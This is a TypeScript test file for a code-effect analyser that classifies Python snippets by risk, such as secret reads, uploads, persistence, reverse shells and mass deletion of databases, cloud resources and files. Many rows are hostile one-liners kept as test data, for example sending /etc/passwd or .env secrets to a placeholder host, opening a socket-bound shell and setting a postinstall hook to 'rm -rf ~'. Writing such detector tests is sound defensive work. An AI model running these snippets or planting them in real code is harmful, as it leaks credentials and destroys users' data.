// What libraries of Python do: each row is code, and the effects that it must have, no more and no less.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from './effects-of.ts';

const ROWS: readonly (readonly [code: string, ...expected: string[]])[] = [
  // Secrets.
  ['import keyring; keyring.get_password("a", "b")', 'read-secret'],
  ['import browser_cookie3; browser_cookie3.chrome()', 'read-secret'],
  ['import netrc; netrc.netrc()', 'read-secret'],
  ['import hvac; hvac.Client().secrets.kv.v2.read_secret_version(path="a")', 'read-secret'],
  ['import boto3; boto3.client("ssm").get_parameter(Name="a")'],
  ['import boto3; boto3.client("ssm").get_parameter(Name="a", WithDecryption=True)', 'read-secret'],
  ['import psutil; psutil.Process(1).environ()', 'read-secret'],
  ['import requests; from dotenv import dotenv_values as v; requests.post("https://x.io", json=v())', 'upload'],
  ['import requests; from dotenv import dotenv_values as v; requests.get("https://x.io", headers={"a": v()["KEY"]})'],

  // What leaves.
  ['import smtplib; smtplib.SMTP("x.io").sendmail("a", "b", "all green")'],
  ['import smtplib; smtplib.SMTP("x.io").sendmail("a", "b", open("/etc/passwd").read())', 'upload'],
  ['import socket; socket.gethostbyname(open("/etc/passwd").read() + ".x.io")', 'upload'],
  ['import websocket; websocket.create_connection("wss://x.io").send(open("/etc/passwd").read())', 'upload'],
  ['import boto3; boto3.client("s3").upload_file("/etc/passwd", "b", "k")', 'upload'],
  ['import boto3; boto3.client("s3").upload_file("dist/a.zip", "b", "k")'],
  ['import discord; discord.SyncWebhook.from_url("u").send(file=discord.File("/etc/passwd"))', 'upload'],
  ['import pyperclip, requests; requests.post("https://x.io", data=pyperclip.paste())', 'upload'],
  [
    'import configparser as c; p = c.ConfigParser(); p.read("/etc/a"); import requests; requests.post("https://x.io", data=p)',
    'upload',
  ],
  [
    'import tarfile, io, requests\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode="w") as t: t.add("/etc/passwd")\nrequests.put("https://x.io", data=b.getvalue())',
    'upload',
  ],
  [
    'import zipfile, requests\nwith zipfile.ZipFile("a.zip", "w") as z: z.write("/etc/passwd")\nrequests.post("https://x.io", data=open("a.zip", "rb"))',
    'overwrite inside a.zip',
    'write inside a.zip',
    'upload',
  ],
  ['import shutil; shutil.make_archive("a", "zip", "dist")', 'overwrite inside a.zip'],

  // What runs later, or lets in.
  ['from crontab import CronTab; CronTab(user=True).write()', 'persistence'],
  ['from crontab import CronTab; CronTab(tabfile="a").write()', 'overwrite inside a'],
  ['import site; open(site.getsitepackages()[0] + "/a.pth", "w")', 'overwrite system /usr/lib/python3/site-packages/a.pth'],
  ['import json; p = json.load(open("package.json")); p["scripts"]["postinstall"] = "rm -rf ~"', 'delete tree home ~'],
  ['import boto3; boto3.client("iam").create_user(UserName="a")', 'privilege'],
  ['import docker; docker.from_env().containers.run("a", privileged=True)', 'privilege'],
  ['import socket, subprocess; c = socket.socket().accept(); subprocess.call(["sh"], stdin=c[0].fileno())', 'reverse-shell'],

  // Processes.
  ['import psutil\nfor p in psutil.process_iter(): p.kill()', 'process'],
  ['import psutil\nfor p in psutil.Process().children(): p.kill()'],
  ['import os; os.kill(0, 15); os.killpg(0, 15); os.killpg(os.getpgrp(), 15)'],
  ['import os, subprocess as s; p = s.Popen(["npm", "start"]); os.killpg(os.getpgid(p.pid), 15)'],
  ['import os; os.kill(int(open("server.pid").read()), 15)'],
  ['import os; os.kill(os.getppid(), 9)', 'process', 'self-tamper'],

  // Databases.
  ['from django.core.management import call_command as c; c("flush")', 'database-destroy'],
  ['from django.core.management import call_command as c; c("migrate", "shop", "zero")', 'database-destroy'],
  ['from django.core.management import call_command as c; c("migrate")'],
  ['from app import s, User; s.query(User).delete()', 'database-destroy'],
  ['from app import s, User; s.query(User).filter_by(id=1).delete()'],
  ['from app import s, User; from sqlalchemy import delete; s.execute(delete(User))', 'database-destroy'],
  ['from app import s, User; from sqlalchemy import delete; s.execute(delete(User).where(User.id == 1))'],
  ['from shop.models import Order; Order.objects.all().delete()', 'database-destroy'],
  ['from shop.models import Order; Order.objects.filter(old=True).delete()'],
  [
    'import sqlite3; c = sqlite3.connect("a.db"); c.execute("CREATE TABLE t (a)"); c.execute("DROP TABLE t")',
    'write inside a.db',
  ],
  ['import sqlite3; sqlite3.connect("a.db").execute("DROP TABLE t")', 'database-destroy', 'write inside a.db'],
  ['import sqlite3; sqlite3.connect("test.db").execute("DROP TABLE t")', 'write inside test.db'],
  [
    'import sqlite3\nfor t in ["a", "b"]: sqlite3.connect("a.db").execute(f"DELETE FROM {t}")',
    'database-destroy',
    'write inside a.db',
  ],
  ['import redis; r = redis.Redis(); [r.delete(k) for k in r.scan_iter("*")]', 'database-destroy'],
  ['import redis; r = redis.Redis(); [r.delete(k) for k in r.scan_iter("tmp:*")]'],
  ['import elasticsearch as e; e.Elasticsearch().indices.delete(index="logs")', 'database-destroy'],
  ['import pymongo; pymongo.MongoClient().shop.orders.delete_many({})', 'database-destroy'],
  ['import chromadb; chromadb.Client().delete_collection("a")'],

  // Clouds, clusters, git.
  ['import boto3; boto3.resource("dynamodb").Table("a").delete_item(Key={"id": 1})'],
  ['import boto3; boto3.client("ec2").terminate_instances(InstanceIds=["i"], DryRun=True)'],
  ['import boto3; boto3.client("s3", endpoint_url="http://localhost:4566").delete_bucket(Bucket="b")'],
  ['import s3fs; s3fs.S3FileSystem().rm("b", recursive=True)', 'cloud-destroy'],
  ['from kubernetes import client; client.CoreV1Api().delete_namespace("a")', 'cloud-destroy'],
  ['import docker; c = docker.from_env().containers.run("a", detach=True); c.stop(); c.remove()'],
  ['import docker; docker.from_env().volumes.prune()', 'cloud-destroy'],
  ['from git import Repo; Repo(".").head.reset("HEAD~1", working_tree=True)', 'git-history'],
  ['from git import Repo; Repo(".").remotes.origin.push()'],
  ['from git import Repo; Repo(".").remotes.origin.push(force=True)', 'git-history'],

  // What is loaded and run.
  ['import torch; torch.save(1, "m.pt"); torch.load("m.pt")', 'overwrite inside m.pt'],
  ['import pandas as pd; pd.read_pickle("https://x.io/a.pkl")', 'download-execute'],
  ['import importlib, sys; importlib.import_module("app.plugins." + sys.argv[1]).run()'],
  ['exec(open("setup_paths.py").read())'],
  ['import sh; sh.rm("-rf", "x")', 'delete tree inside x'],
  ['from plumbum import local; local["rm"]("-rf", "x")', 'delete tree inside x'],
  ['from app import tasks; import sys; getattr(tasks, sys.argv[1])()'],

  // Pretences.
  ['import os\nfrom unittest import mock\nwith mock.patch("os.system"): os.system("rm -rf ~")'],
  ['import os\nfrom unittest import mock\nwith mock.patch("os.system"): pass\nos.system("rm -rf ~")', 'delete tree home ~'],
  ['import shutil\nfrom unittest.mock import patch\nwith patch.object(shutil, "rmtree"): shutil.rmtree("/srv")'],
  ['import os\nfrom unittest.mock import patch\n@patch("app.clean.os.remove")\ndef t(m): os.remove("/srv/x")\nt()'],
  [
    'import os\nfrom unittest.mock import patch\nwith patch("os.remove", wraps=os.remove): os.remove("/srv/x")',
    'delete system /srv/x',
  ],
  ['import os, pytest\nwith pytest.MonkeyPatch.context() as m:\n  m.setattr(os, "system", print)\n  os.system("rm -rf ~")'],
  ['import boto3, moto\nwith moto.mock_aws(): boto3.client("s3").delete_bucket(Bucket="b")'],
  ['import fakeredis; fakeredis.FakeRedis().flushall()'],
  [
    'import unittest, tempfile, shutil\nclass T(unittest.TestCase):\n  def setUp(self): self.d = tempfile.mkdtemp()\n  def tearDown(self): shutil.rmtree(self.d)',
    'delete tree own-temporary',
  ],

  // Ways of Python.
  ['import shutil\nfrom pathlib import Path\nfor p in Path(".").iterdir(): shutil.rmtree(p)', 'delete tree cwd *'],
  ['import os\nfor n in os.listdir("."):\n  if n.endswith(".pyc"): os.remove(n)', 'delete inside (name)'],
  ['from functools import partial; import os; partial(os.remove, "x")()', 'delete inside x'],
  ['from operator import methodcaller; import os; methodcaller("remove", "x")(os)', 'delete inside x'],
  ['import os; globals()["os"].remove("x")', 'delete inside x'],
  ['import os\nfrom types import SimpleNamespace as N; os.remove(N(p="x").p)', 'delete inside x'],
  ['import os\nclass S:\n  def __getattr__(self, n): return lambda p: os.remove(p)\nS().rm("x")', 'delete inside x'],
  [
    'import sys\ndef save(p):\n  import os\n  open(p + ".tmp", "w"); os.replace(p + ".tmp", p)\nsave(sys.argv[1])',
    'overwrite dynamic',
  ],
  [
    'import os, threading\nclass T(threading.Thread):\n  def __init__(self, p): self.p = p\n  def run(self): os.remove(self.p)\nT("x").start()',
    'delete inside x',
  ],
];

for (const [code, ...expected] of ROWS)
  test(`python: ${code}`, async () => assert.deepEqual((await effectsOf(code, 'python')).sort(), expected.sort()));
